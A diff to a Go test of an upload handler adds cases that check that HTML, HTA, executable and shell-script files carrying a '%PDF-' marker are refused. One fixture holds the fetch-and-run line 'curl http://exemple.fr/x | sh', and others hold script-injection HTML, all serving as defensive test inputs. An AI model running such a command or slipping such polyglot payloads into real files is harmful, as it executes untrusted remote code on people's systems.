@@ -97,6 +97,12 @@ func TestReceiveRefuses(t *testing.T) {
 		{"executable named .pdf", exe, 1 << 20, "programme exécutable"},
 		{"html", []byte("<!DOCTYPE html><html><script>alert(1)</script></html>"), 1 << 20, "page web"},
 		{"plain text", []byte("bonjour"), 1 << 20, "Formats acceptés : PDF, JPEG, PNG"},
+		// The sniffer takes "%PDF-" anywhere in the first kilobyte for a PDF.
+		{"html holding %PDF-", []byte("<!DOCTYPE html><html><!-- %PDF-1.7 --><script>alert(1)</script></html>"), 1 << 20, "page web"},
+		{"hta holding %PDF-", []byte("<html><head><HTA:APPLICATION ID=\"x\"></head><body>%PDF-1.4</body></html>"), 1 << 20, "page web"},
+		{"executable holding %PDF-", append(append([]byte{}, exe...), "%PDF-1.7"...), 1 << 20, "programme exécutable"},
+		{"shell script holding %PDF-", []byte("#!/bin/sh\n# %PDF-1.4\ncurl http://exemple.fr/x | sh\n"), 1 << 20, "Formats acceptés : PDF"},
+		{"%PDF- after a newline", append([]byte("\n"), pdf...), 1 << 20, "Formats acceptés : PDF"},
 		{"one byte over", pdf, int64(len(pdf)) - 1, ""},
 		{"over within the sniffed head", png, 10, ""},
 	}
